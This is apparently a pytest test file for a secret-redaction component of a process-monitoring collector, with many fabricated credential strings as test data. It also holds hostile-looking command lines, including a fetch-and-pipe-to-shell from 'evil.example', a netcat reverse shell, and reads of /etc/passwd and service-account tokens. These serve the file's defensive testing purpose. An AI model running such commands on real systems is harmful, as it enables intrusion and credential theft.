"""Secrets that are replaced, look-alikes that stay, and the places of an event that are looked at."""

import base64
import json
from typing import Any

import pytest

from tocsin.collector.redaction import CLASSES, Redactor
from tocsin.collector.redaction.redactor import BYTES_MARK

_REDACTOR = Redactor()
_SECRET = "Zq7.hunter2"
_HEX = "0123456789abcdef"
_JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.c2lnbmF0dXJlLW9mLWl0"


def _event(arguments: str, binary: str = "/usr/bin/app", **more: Any) -> bytes:
    process = {"exec_id": "bjE6MTox", "binary": binary, "arguments": arguments, **more}
    return json.dumps({"process_exec": {"process": process}, "node_name": "n1"}, ensure_ascii=False).encode()


def _left(arguments: str, binary: str = "/usr/bin/app") -> str:
    redacted = _REDACTOR.event(_event(arguments, binary))
    return str(json.loads(redacted.raw)["process_exec"]["process"]["arguments"])


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("app", "--password={} -v"),
        ("app", "--password {} -v"),
        ("app", "--db-password={}"),
        ("app", "-password {}"),
        ("app", "--PASSWORD={}"),
        ("app", "-pw {} host"),
        ("app", "--api-key {}"),
        ("app", "--apiKey={}"),
        ("app", "--auth.clientSecret={}"),
        ("app", "--set db.rootPassword={}"),
        ("app", '--data {{"user":"a","password":"{}"}}'),
        ("app", '--data "{{\\"token\\": \\"{}\\"}}"'),
        ("app", "--from-literal=password={}"),
        ("app", "-Djavax.net.ssl.keyStorePassword={} -jar a.jar"),
        ("app", "user=a&password={}&x=1"),
        ("app", "Server=db;Uid=sa;Pwd={};Database=x"),
        ("app", "DefaultEndpointsProtocol=https;AccountName=a;AccountKey={};EndpointSuffix=x"),
        ("app", "<password>{}</password>"),
        ("env", "PGPASSWORD={} psql -h db"),
        ("env", "AWS_SECRET_ACCESS_KEY={} aws s3 ls"),
        ("env", "-i GITHUB_TOKEN={} sh"),
        ("docker", "run -e MYSQL_ROOT_PASSWORD={} mysql"),
        ("aws", "configure set aws_secret_access_key {}"),
        ("mysql", "-uroot -p{} db"),
        ("mysqldump", "-u root -p{}"),
        ("sh", '-c "mysql -uroot -p{} < dump.sql"'),
        ("mariadb", '-p"{}"'),
        ("sshpass", "-p {} ssh a@b"),
        ("sshpass", "-p{} ssh a@b"),
        ("curl", "-u admin:{} https://x"),
        ("curl", "-sku admin:{} https://x"),
        ("curl", "--user admin:{} https://x"),
        ("curl", "--proxy-user=admin:{} https://x"),
        ("curl", "-b session={} https://x"),
        ("curl", '-H "Authorization: Bearer {}" https://x'),
        ("curl", '-H "Authorization: Basic {}" https://x'),
        ("curl", '-H "Authorization: {}" https://x'),
        ("curl", '-H "authorization: token {}" https://x'),
        ("curl", "-H 'X-Api-Key: {}' https://x"),
        ("curl", "-H X-Vault-Token:{} https://x"),
        ("curl", '-H "PRIVATE-TOKEN: {}" https://x'),
        ("sh", "-c \"curl -H 'Authorization: Bearer {}' https://x | sh\""),
        ("curl", "https://admin:{}@host/path"),
        ("git", "clone https://x-access-token:{}@github.com/a/b"),
        ("psql", "postgres://u:{}@db:5432/x?sslmode=off"),
        ("app", "redis://:{}@r:6379/0"),
        ("app", "--dsn u:{}@tcp(db:3306)/x"),
        ("curl", "https://x/y?access_token={}&z=1"),
        ("curl", "https://a.blob.core.windows.net/c?sv=1&sig={}&se=2"),
        ("redis-cli", "-h r -a {} ping"),
        ("mongosh", "-u root -p {} db"),
        ("ldapsearch", "-x -w {} -b dc=x"),
        ("smbclient", "//h/s -U u%{}"),
        ("sqlcmd", "-S h -U sa -P {}"),
        ("docker", "login -u x -p {} registry"),
        ("az", "login --service-principal -u a -p {} --tenant t"),
        ("helm", "registry login -u x -p {} r"),
        ("openssl", "enc -aes256 -pass pass:{}"),
        ("psql", "-c \"ALTER USER x WITH PASSWORD '{}'\""),
        ("mysql", "-e \"CREATE USER x IDENTIFIED BY '{}'\""),
        ("htpasswd", "-b file user {}"),
        ("sh", '-c "echo {} | docker login -u a --password-stdin r"'),
        ("vault", "login {}"),
        ("zip", "-P {} a.zip b"),
    ],
)
def test_a_secret_is_replaced_by_what_stands_around_it(binary: str, arguments: str) -> None:
    before, after = arguments.format("\0").split("\0")
    assert _left(before + _SECRET + after, f"/usr/bin/{binary}") == before + "*****" + after


def test_what_cannot_be_told_from_a_secret_goes_with_it() -> None:
    assert _left('-H "Cookie: a=b; c=d" https://x') == '-H "Cookie: *****" https://x'
    assert _left('-c "echo root:hunter2 | chpasswd"') == '-c "echo ***** | chpasswd"'
    assert _left('-c "echo hunter2 | sudo -S id"') == '-c "echo ***** | sudo -S id"'


@pytest.mark.parametrize(
    ("kind", "secret"),
    [
        ("cloud", "AKIAIOSFODNN7EXAMPLE"),
        ("cloud", "ASIAIOSFODNN7EXAMPLE"),
        ("cloud", "AIzaSy" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q"),
        ("cloud", "ya29.a0AfH6SMBx-9_k3j4h5g6f7d8s9a0"),
        ("cloud", "GOCSPX-" + "abcDEF123456ghiJKL789012"),
        ("cloud", "abc8Q~" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456"),
        ("token", "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dE3fG6"),
        ("token", "gho_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dE3fG6"),
        ("token", "github_pat_11ABCDEFG0_abcdefghijklmnopqrstuvwxyz"),
        ("token", "glpat-" + "xYz12_abCdEfGhIjKlMn"),
        ("token", "xoxb-123456789012-abcdefABCDEF"),
        ("token", "sk_" + "live_4eC39HqLyjWDarjtT1zdp7dc"),
        ("token", "rk_" + "live_4eC39HqLyjWDarjtT1zdp7dc"),
        ("token", "npm_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
        ("token", "hvs." + "CAESIJ1234567890abcdefgh"),
        ("token", "SG." + "abcdefghijklmnop12.ABCDEFGHIJKLMNOP34"),
        ("token", "dckr_pat_" + "abcdefghij_1234567890-k"),
        ("token", "sk-ant-" + "api03-abcdefghijklmnopqrst"),
        ("token", "SUACSSL3UAHUDXKFSNVUZRF5UHPMWZ6BFDTJ7M6USDXIEDNPPQYYYCU3VY"),
        ("jwt", _JWT),
    ],
)
def test_a_secret_is_known_by_its_shape(kind: str, secret: str) -> None:
    for text in (secret, f"--x {secret} y", f'"a {secret}"', f"x={secret}", f"k:{secret},"):
        redacted = _REDACTOR.event(_event(text))
        assert secret.encode() not in redacted.raw
        assert redacted.by_class == {kind: 1}
        assert kind in CLASSES


def test_a_private_key_is_replaced_between_its_marks_and_where_its_end_is_missing() -> None:
    body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
    whole = f"echo '-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----' > k"
    assert _left(whole) == "echo '-----BEGIN RSA PRIVATE KEY----------*****-----END RSA PRIVATE KEY-----' > k".replace(
        "----------*", "-----*"
    )
    assert "MIIEvQ" not in _left(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}")


def test_the_second_key_of_aws_is_known_beside_the_first() -> None:
    both = "AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    assert _left(f"x {both} y") == "x *****:***** y"


def test_a_web_token_still_says_that_it_was_one() -> None:
    assert _left(f'-H "Authorization: Bearer {_JWT}" https://k/api/v1/pods') == (
        '-H "Authorization: Bearer eyJ*****" https://k/api/v1/pods'
    )


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("app", "--password-file /run/secrets/x"),
        ("app", "--password-file=/run/secrets/x"),
        ("app", "--token-ttl 5m"),
        ("app", "--token-ttl=5m"),
        ("app", "--secret-name x"),
        ("app", "--password=/run/secrets/db"),
        ("app", "--token @/var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("app", "--ask-pass -i hosts"),
        ("app", "--password --verbose"),
        ("app", "--password="),
        ("app", "--password=*****"),
        ("app", "--auth=true --secure-token=false"),
        ("sh", '-c "mysql --password=$MYSQL_PASSWORD"'),
        ("sh", '-c "export TOKEN=$(curl http://evil/x) && id"'),
        ("ssh", "-p 22 host"),
        ("ssh", "-p22 host"),
        ("mkdir", "-p /a"),
        ("cp", "-pr /a /b"),
        ("find", "/var/lib/mysql -print -prune"),
        ("docker", "run -p 8080:80 -u 1000:1000 nginx"),
        ("psql", "-U postgres -p 5432"),
        ("mysql", "-u root -p db"),
        ("mysql", "-P 3306 -h db"),
        ("curl", "-o out:file https://x:8443/a@b"),
        ("curl", "-u admin https://x"),
        ("python3", "tokenize.py"),
        ("passwd", "root"),
        ("cat", "/etc/passwd"),
        ("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("git", "log --author=token"),
        ("git", "clone git@github.com:a/b.git"),
        ("git", "clone ssh://git@host:22/a/b"),
        ("grep", '-r "BEGIN RSA PRIVATE KEY" /etc'),
        ("grep", "-rn password /etc"),
        ("kubectl", "get secret db -o yaml"),
        ("kubectl", "create token sa"),
        ("docker", f"pull quay.io/a/b@sha256:{_HEX * 4}"),
        ("docker", "pull registry:5000/secret:latest"),
        ("docker", "build --secret id=npm,src=.npmrc ."),
        ("app", "123e4567-e89b-12d3-a456-426614174000"),
        ("app", "YTIxOTc3OmhlbGxvIHdvcmxkIGhvdyBhcmUgeW91"),
        ("app", base64.b64encode(b'{"a":1,"b":"harmless"}').decode()),
        ("app", "sha512-" + base64.b64encode(bytes(range(64))).decode()),
        ("app", "mailto:a@b.c http://[::1]:80/x@y"),
        ("npm", "install @scope/pkg http://h:8080/@scope/pkg"),
        ("app", "bearer authentication basic setting"),
        ("bash", "-c 'read -p name x; compass=3; bypass=1; monkey=4'"),
        ("app", "max_tokens=512 keyboard=us author=x"),
    ],
)
def test_a_look_alike_stays(binary: str, arguments: str) -> None:
    raw = _event(arguments, f"/usr/bin/{binary}")
    redacted = _REDACTOR.event(raw)
    assert redacted.raw == raw
    assert not redacted.count


def test_what_a_rule_looks_at_beside_a_secret_stays() -> None:
    given = (
        '-c "TOKEN=abc123 curl -fsSL http://evil.example/x?token=abc123|sh; PASSWORD=abc123;nc 1.2.3.4 99 -e /bin/sh"'
    )
    assert _left(given, "/bin/sh") == (
        '-c "TOKEN=***** curl -fsSL http://evil.example/x?token=*****|sh; PASSWORD=*****;nc 1.2.3.4 99 -e /bin/sh"'
    )


def test_a_value_with_spaces_is_replaced_to_the_end_of_its_quotes() -> None:
    assert _left('"--password=correct horse battery" -v') == '"--password=*****" -v'
    assert _left("-c \"app --password 'correct horse' -v\"") == "-c \"app --password '*****' -v\""
    assert _left('-H "X-Auth-Token: correct horse" u') == '-H "X-Auth-Token: *****" u'
    assert _left("-u 'me:correct horse' u", "/usr/bin/curl") == "-u 'me:*****' u"


def test_the_program_is_known_in_whatever_order_the_fields_stand() -> None:
    raw = b'{"process_exec":{"process":{"arguments":"-phunter2 x","binary":"/opt/mysql"}}}'
    assert _REDACTOR.event(raw).raw == raw.replace(b"hunter2", b"*****")


def test_redacting_again_changes_nothing() -> None:
    once = _REDACTOR.event(_event(f'--password=a -H "Authorization: Bearer {_JWT}" https://u:p@h', "/usr/bin/curl"))
    assert once.count == 3
    again = _REDACTOR.event(once.raw)
    assert (again.raw, again.count) == (once.raw, 0)


def _planted(body: dict[str, Any]) -> bytes:
    return json.dumps(body).encode()


_PASSWORD = "--password=Zq7.hunter2"
_PLACES = (
    {"process_exec": {"process": {"arguments": _PASSWORD}}},
    {"process_exec": {"process": {"cwd": "/srv/password=Zq7.hunter2/x"}}},
    {"process_exec": {"parent": {"arguments": _PASSWORD}}},
    {"process_exit": {"ancestors": [{"arguments": "x"}, {"arguments": _PASSWORD}]}},
    {"process_exec": {"process": {"environment_variables": [{"Key": "A", "Value": _PASSWORD}]}}},
    {"process_exec": {"process": {"environment_variables": [{"Key": "DB_PASSWORD", "Value": "Zq7.hunter2"}]}}},
    {"process_exec": {"process": {"environment_variables": [{"Value": "Zq7.hunter2", "Key": "apiToken"}]}}},
    {"process_exec": {"process": {"environment_variables": _PASSWORD}}},
    {"process_kprobe": {"args": [{"int_arg": 1}, {"string_arg": _PASSWORD}]}},
    {"process_kprobe": {"return": {"string_arg": _PASSWORD}}},
    {"process_kprobe": {"data": [{"string_arg": _PASSWORD}]}},
    {"process_uprobe": {"args": [{"string_arg": _PASSWORD}]}},
    {"process_usdt": {"args": [{"string_arg": _PASSWORD, "label": "x"}]}},
    {"process_lsm": {"args": [{"file_arg": {"path": "/a/password=Zq7.hunter2"}}]}},
    {"process_tracepoint": {"args": [{"string_arg": _PASSWORD}]}},
    {"process_exec": {"process": {"pod": {"name": "a", "pod_annotations": {"x/y": _PASSWORD}}}}},
    {"process_exec": {"process": {"field_of_a_newer_agent": [[_PASSWORD]]}}},
    {"process_from_a_newer_agent": {"process": {"arguments": _PASSWORD}}},
)


@pytest.mark.parametrize("body", _PLACES)
def test_every_place_of_a_workloads_text_is_looked_at(body: dict[str, Any]) -> None:
    redacted = _REDACTOR.event(_planted(body))
    assert redacted.by_class == {"named": 1}
    assert json.loads(redacted.raw) == json.loads(_planted(body).replace(b"Zq7.hunter2", b"*****"))


def test_names_times_and_ids_stay_whatever_they_look_like() -> None:
    pod = {"name": "token=abc", "namespace": "password=x", "pod_labels": {"arguments": "password=abc", "token": "abc"}}
    image = {"id": "docker.io/a@sha256:0", "name": "AKIAIOSFODNN7EXAMPLE"}
    process = {"exec_id": "AKIAIOSFODNN7EXAMPLE", "pod": {**pod, "container": {"id": "token=a", "image": image}}}
    body = {"process_exec": {"process": process}, "node_name": "token=x", "node_labels": {"password": "x"}}
    raw = _planted(body)
    assert _REDACTOR.event(raw).raw == raw


def test_a_path_keeps_the_name_of_its_program() -> None:
    raw = _event("", "/tmp/password=x/token=/xmrig")
    assert b"/tmp/password=*****/token=/xmrig" in _REDACTOR.event(raw).raw


def test_base64_of_a_buffer_is_replaced_as_a_whole_and_still_decodes() -> None:
    buffer = base64.b64encode(b"POST / HTTP/1.1\r\nAuthorization: Bearer abcdef123456\r\n\r\n\xff\xfe").decode()
    harmless = base64.b64encode(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n\xff").decode()
    body = {"process_kprobe": {"args": [{"bytes_arg": harmless}, {"truncated_bytes_arg": {"bytes_arg": buffer}}]}}
    first, second = json.loads(_REDACTOR.event(_planted(body)).raw)["process_kprobe"]["args"]
    assert first["bytes_arg"] == harmless
    assert second["truncated_bytes_arg"]["bytes_arg"] == BYTES_MARK.decode()
    assert base64.b64decode(BYTES_MARK) == b"*****"
